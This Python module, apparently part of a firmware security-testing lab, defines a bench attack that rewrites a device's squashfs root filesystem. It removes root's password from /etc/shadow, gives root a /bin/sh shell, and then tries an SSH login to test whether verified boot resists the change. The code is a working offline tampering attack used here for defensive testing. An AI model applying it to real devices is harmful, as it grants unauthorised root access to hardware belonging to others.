"""root's password, taken away on the bench."""

import re

from firmward.lab.attacks import Attack, Position, Result
from firmward.lab.means import key_login, squashfs, start_script, verified_root
from firmward.lab.target import Powered, Target, Witness
from firmward.model.chain import ROOT

PASSWORD = re.compile(rb"^root:[^:\n]*(:[^\n]*\n?)", re.MULTILINE)
SHELL = re.compile(rb"^(root:[^:\n]*:0:0:)[^:\n]*(:[^:\n]*:)[^:\n]*$", re.MULTILINE)


def run(target: Target) -> Result:
    for path, change in (("etc/shadow", without_password), ("etc/passwd", with_shell)):
        patch = squashfs.rewritten(start_script.reader(target), path, change)
        target.write(start_script.ROOT, patch.data, patch.at)
    target.note(
        Witness.ATTACKER, "took root's password out of /etc/shadow, in its place in root_a, and gave root a shell"
    )
    with target.power(ATTACK.ports) as powered:
        powered.until(lambda: powered.is_healthy or powered.resets > 0, ATTACK.within)
        if powered.is_healthy and _is_let_in(powered):
            target.note(Witness.NETWORK, "a shell of root's answered the challenge by SSH, and asked for no password")
            return Result.SUCCEEDED
        return verified_root.withstands(powered, ATTACK.within)


def _is_let_in(powered: Powered) -> bool:
    own = powered.target.challenge
    return own.is_answered(key_login.said(powered, "root", f"echo {own.shell}"))


def without_password(shadow: bytes) -> bytes:
    """root's line alone, without a password: the others only take room, and whoever has none cannot log in by one."""
    found = PASSWORD.search(shadow)
    return b"root:" + found[1] if found else shadow


def with_shell(accounts: bytes) -> bytes:
    """Without a comment: a line may not need more room than before."""
    return SHELL.sub(rb"\g<1>\g<2>/bin/sh", accounts)


ATTACK = Attack(
    id="shadow-rewrite",
    title="root without a password",
    does="takes the storage out, takes root's password away where the root has it, and logs in over the network",
    position=Position.BENCH,
    link=ROOT,
    case="Etemadieh, Heres, Hoang: Hacking Hardware with a $10 SD Card Reader, Black Hat USA 2017",
    foretold=("rootfs-unverified", "verity-root-hash-untrusted"),
    run=run,
    within=150.0,
    ports=(key_login.PORT,),
)
